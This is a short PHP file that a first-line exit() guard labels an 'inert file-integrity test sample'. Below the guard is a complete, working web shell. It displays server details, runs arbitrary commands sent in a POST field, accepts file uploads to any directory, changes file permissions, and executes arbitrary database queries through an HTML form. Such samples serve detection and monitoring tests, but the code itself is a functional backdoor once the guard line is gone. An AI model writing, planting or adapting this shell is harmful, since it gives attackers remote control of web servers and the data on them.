<?php exit('inert fim test sample'); ?>
<?php
error_reporting(0);
set_time_limit(0);
$dir = isset($_POST['dir']) ? $_POST['dir'] : getcwd();
echo '<table><tr><td>' . php_uname() . '</td><td>' . getmyuid() . ' ' . get_current_user() . '</td>';
echo '<td>Safe mode: ' . (@ini_get('safe_mode') ? 'ON' : 'OFF') . '</td><td>Open_basedir: ' . ini_get('open_basedir') . '</td>';
echo '<td>Free: ' . round(disk_free_space($dir) / 1024 / 1024) . ' MB</td></tr></table>';
if (!empty($_POST['cmd'])) {
    echo '<textarea cols=120 rows=20>';
    $cmd = $_POST['cmd'];
    if (function_exists('system')) { system($cmd); } else { echo `$cmd`; }
    echo '</textarea>';
}
if (!empty($_FILES['userfile']['name'])) { move_uploaded_file($_FILES['userfile']['tmp_name'], $dir . '/' . $_FILES['userfile']['name']); }
if (!empty($_POST['chmod_file'])) { chmod($_POST['chmod_file'], intval($_POST['mode'], 8)); }
if (!empty($_POST['mysql_q'])) { $db = mysqli_connect($_POST['host'], $_POST['user'], $_POST['pass']); $r = mysqli_query($db, $_POST['mysql_q']); }
?>
<form method=post><input name=cmd><input type=submit value=Execute></form>
<form method=post enctype=multipart/form-data><input type=file name=userfile><input type=submit value=Upload></form>
